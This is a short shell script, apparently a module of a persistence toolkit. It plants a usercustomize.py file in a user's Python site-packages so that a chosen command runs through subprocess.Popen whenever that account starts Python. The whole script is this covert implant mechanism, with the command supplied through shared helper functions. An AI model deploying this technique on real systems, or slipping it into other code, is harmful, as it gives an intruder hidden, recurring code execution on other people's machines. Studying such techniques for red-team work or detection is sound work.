#!/bin/sh
# python-usercustomize: a module of an account's python (python site module)
. "${0%/*}/lib.sh"
payload
put "$home/.local/lib/python3.11/site-packages/usercustomize.py" 644 "$head" \
	"import subprocess" "subprocess.Popen([$argj])"
